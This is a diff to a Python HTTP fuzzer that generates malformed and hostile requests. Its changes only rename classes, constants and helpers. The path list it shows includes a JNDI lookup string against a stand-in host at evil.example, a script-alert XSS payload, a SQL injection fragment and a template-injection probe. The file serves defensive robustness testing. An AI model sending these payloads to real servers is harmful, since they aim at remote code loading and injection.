@@ -13,7 +13,7 @@ PATHS = (
     " http://evil.example/ healthz:443 /\x00 /\x7f /\xe4\xff /a\tb /{{7*7}} /${jndi:ldap://evil.example/a}"
     " /<script>alert(1)</script> /'%20or%201=1--"
 ).split(" ")
-USUAL_PATHS = PATHS[:11]
+COMMON_PATHS = PATHS[:11]
 METHODS = "GET HEAD POST PUT DELETE PATCH OPTIONS TRACE CONNECT PROPFIND get G\xc4T GET\x00 PRI".split(" ")
 VERSIONS = ("HTTP/1.1", "HTTP/1.0", "HTTP/0.9", "HTTP/2.0", "HTTP/9.9", "HTTP/1.1 x", "http/1.1", "HTCPCP/1.0", "")
 HOSTS = (
@@ -111,7 +111,7 @@ CHUNKS = (
     b"1;" + b"x" * 20_000,
     b"0\r\nX: y\r\n\r\n",
 )
-NO_HTTP = (
+NOT_HTTP = (
     b"",
     b"\r\n" * 50,
     b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(50),
@@ -124,7 +124,7 @@ NO_HTTP = (
 )
 
 
-class Nasty:
+class MalformedRequests:
     """Makes request number n of a seed. `cookie` is a session that lets some of them in."""
 
     def __init__(self, seed: int, cookie: str) -> None:
@@ -136,17 +136,17 @@ class Nasty:
         dice = random.Random(f"{self.seed}:{number}")
         kind = dice.random()
         if kind < 0.05:
-            return dice.choice(NO_HTTP)
+            return dice.choice(NOT_HTTP)
         if kind < 0.1:
             return dice.randbytes(dice.choice([1, 20, 500, 20_000]))
         if kind < 0.2:
-            return self._filled_in(dice)
-        text = b"".join(self._one(dice) for _ in range(dice.choice([1] * 8 + [2, 30])))
-        return _damaged(dice, text) if dice.random() < 0.15 else text
+            return self._form_request(dice)
+        text = b"".join(self._single_request(dice) for _ in range(dice.choice([1] * 8 + [2, 30])))
+        return _corrupt(dice, text) if dice.random() < 0.15 else text
 
-    def _one(self, dice: random.Random) -> bytes:
+    def _single_request(self, dice: random.Random) -> bytes:
         method = dice.choice(["GET", "GET", "GET", "POST", "POST", dice.choice(METHODS)])
-        path = dice.choice(dice.choice([PATHS, USUAL_PATHS]))
+        path = dice.choice(dice.choice([PATHS, COMMON_PATHS]))
         if dice.random() < 0.2:
             path += dice.choice(["?", "/", "%2f..", "?x=" + "y" * 10_000, "/" * 9000, "#x", " x", "%", "\x00"])
         version = "HTTP/1.1" if dice.random() < 0.9 else dice.choice(VERSIONS)
@@ -156,7 +156,7 @@ class Nasty:
             lines.append(b"Content-Length: %d" % len(body))
         return b"\r\n".join(lines) + b"\r\n\r\n" + body
 
-    def _filled_in(self, dice: random.Random) -> bytes:
+    def _form_request(self, dice: random.Random) -> bytes:
         """A form as the page sends it, but for what it says."""
         body = dice.choice(FORMS)
         return (
@@ -190,13 +190,13 @@ def _body(dice: random.Random) -> bytes:
     return dice.choice(CHUNKS)
 
 
-def _damaged(dice: random.Random, text: bytes) -> bytes:
-    at, other = dice.randrange(len(text)), dice.randrange(len(text))
+def _corrupt(dice: random.Random, text: bytes) -> bytes:
+    first_offset, second_offset = dice.randrange(len(text)), dice.randrange(len(text))
     kind = dice.randrange(4)
     if kind == 0:
-        return text[:at]
+        return text[:first_offset]
     if kind == 1:
-        return text[:at] + dice.randbytes(3) + text[at:]
+        return text[:first_offset] + dice.randbytes(3) + text[first_offset:]
     if kind == 2:
         return text.replace(b"\r\n", b"\n")
-    return text[: max(at, other)] + text[min(at, other) :]
+    return text[: max(first_offset, second_offset)] + text[min(first_offset, second_offset) :]
